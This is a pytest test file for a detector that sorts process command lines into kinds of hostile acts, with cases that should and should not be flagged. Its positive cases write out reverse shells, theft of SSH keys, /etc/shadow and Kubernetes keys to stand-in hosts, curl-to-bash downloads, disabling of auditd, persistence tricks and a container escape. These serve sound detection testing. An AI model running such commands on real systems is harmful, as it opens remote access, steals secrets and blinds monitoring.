from __future__ import annotations

import pytest

from explainer.enrich.acts import acts_of
from explainer.enrich.command import MAX_COMMANDS, MAX_LINE, parse_line


def kinds(line: str) -> set[str]:
    return {name.removeprefix("act.") for name in acts_of({"proc.cmdline": line})}


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        ("shell_to_network", "nc -e /bin/sh 203.0.113.9 4444"),
        ("shell_to_network", "/usr/bin/ncat 203.0.113.9 4444 --sh-exec=/bin/bash"),
        ("shell_to_network", "busybox nc 203.0.113.9 1 -e ash"),
        ("shell_to_network", "bash -c sh -i >& /dev/udp/203.0.113.9/53 0>&1"),
        ("shell_to_network", "bash -c exec 5<>/dev/tcp/203.0.113.9/80;cat <&5 | while read l; do $l; done"),
        ("shell_to_network", "socat OPENSSL:203.0.113.9:443 EXEC:/bin/sh,pty"),
        ("shell_to_network", "sh -c mkfifo /opt/p; cat /opt/p | sh -i | nc 203.0.113.9 1 > /opt/p"),
        ("shell_to_network", "perl -e use Socket;socket(S,2,1,6);connect(S,x);open STDIN,S;exec /bin/sh"),
        ("shell_to_network", "ruby -rsocket -e exit if fork;c=TCPSocket.new(h,1);while l=c.gets;IO.popen(l);end"),
        ("secret_sent", "curl -F f=@/root/.ssh/id_ed25519 https://c2.example.com"),
        ("secret_sent", "sh -c curl -d $(cat /etc/shadow) http://203.0.113.9/"),
        ("secret_sent", "rsync -a /etc/kubernetes/pki/ u@203.0.113.9:/x"),
        ("secret_sent", "sh -c cat /proc/1/environ | nc 203.0.113.9 9"),
        ("file_sent", "curl --upload-file /opt/db.dump https://c2.example.com/"),
        ("download_run", "sh -c wget -O- http://203.0.113.9/i | sudo bash -s -- x"),
        ("download_run", "bash -c source <(curl -s http://203.0.113.9/i)"),
        ("download_run", "sh -c curl -o /dev/shm/k http://203.0.113.9/k && /dev/shm/k"),
        ("hidden_run", "sh -c echo aWQ= | base64 -d | python3"),
        ("hidden_run", "python3 -c exec(__import__(base64).b64decode(aWQ=))"),
        ("blinding", "sudo systemctl disable --now auditd"),
        ("blinding", "killall -9 osqueryd"),
        ("blinding", "sh -c iptables -F"),
        ("staying", "sh -c echo * * * * * root x > /etc/cron.d/x"),
        ("staying", "cp x.so /etc/ld.so.preload"),
        ("staying", "chmod 4755 /opt/x"),
        ("breaking_out", "docker run --privileged -v /:/host alpine sh"),
        ("breaking_out", "sh -c mount /dev/sda1 /mnt && chroot /mnt"),
        ("mining", "x -o stratum+ssl://203.0.113.9:443 -u w"),
        ("appended", "backup-agent --nightly ; cp /etc/hosts /opt"),
        ("appended", "agent --run & /var/tmp/x"),
    ],
)
def test_an_act_is_seen_in_the_line_that_does_it(kind: str, line: str) -> None:
    assert kind in kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        "nc -zv cache.example.com 6379",
        "nc -l -p 8080 -e /opt/healthcheck.sh",
        "bash -c exec 3<>/dev/tcp/127.0.0.1/6379",
        "sh -c timeout 1 bash -c </dev/tcp/db.example.com/5432",
        "curl -fsS http://localhost:8080/healthz",
        "curl -H Accept:text/plain -o out.json https://api.example.com/v1",
        "sh -c clear; (bash || ash || sh)",
        "sh -c command -v bash >/dev/null && exec bash || exec sh",
        "sh -c test ! -f /archive/0 && cp pg_wal/0 /archive/0",
        "grep -E read|write ./notes.txt",
        "java -Dx=a;b -jar app.jar",
        "systemctl restart nginx",
        "systemctl status falco",
        "chmod 755 /opt/app/run.sh",
        "rsync -a --link-dest=/backup/daily.1/etc /etc/ /backup/daily.0/etc",
        "kubectl get pods -o wide",
        "insmod /root/.falco/7.3.0+driver/x86_64/falco_debian_5.10.0-28-amd64_1.ko",
        "python3 -c print(1)",
        "crontab -l",
        "",
    ],
)
def test_ordinary_work_is_no_act(line: str) -> None:
    assert kinds(line) == set()


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "::1", "example.com"])
def test_a_shell_that_is_joined_to_nobody_is_no_act(host: str) -> None:
    assert "shell_to_network" not in kinds(f"nc -e /bin/sh {host} 22")


def test_a_name_below_the_reserved_one_is_somebody() -> None:
    assert "shell_to_network" in kinds("nc -e /bin/sh c2.example.com 22")


def test_the_parents_line_counts_and_is_cited_as_its_own() -> None:
    found = acts_of({"proc.cmdline": "tail -f log", "proc.pcmdline": "sh -c curl http://203.0.113.9/x | sh"})
    assert found["act.download_run"][1] == "proc.pcmdline"


def test_what_shows_an_act_is_short_and_on_one_line() -> None:
    shown, field = acts_of({"proc.cmdline": f"nc -e /bin/sh 203.0.113.9 1 {'x' * 5000}\n"})["act.shell_to_network"]
    assert len(shown) <= 200
    assert "\n" not in shown
    assert field == "proc.cmdline"


@pytest.mark.parametrize("part", ["a | ", "curl x | ", "nc -e ", "$(", "a=b ", "sudo ", "> ", "base64 -d | sh ; ", "'"])
def test_however_long_a_line_is_no_more_than_a_bounded_part_is_read(part: str) -> None:
    line = parse_line(part * (1_000_000 // len(part)))
    assert len(line.commands) <= MAX_COMMANDS
    assert len(line.whole) <= 2 * MAX_LINE


def test_what_is_not_read_speaks_against_a_harmless_explanation() -> None:
    assert "appended" in kinds("true ; " * 100)
    assert "appended" in kinds("x" * (MAX_LINE + 1))
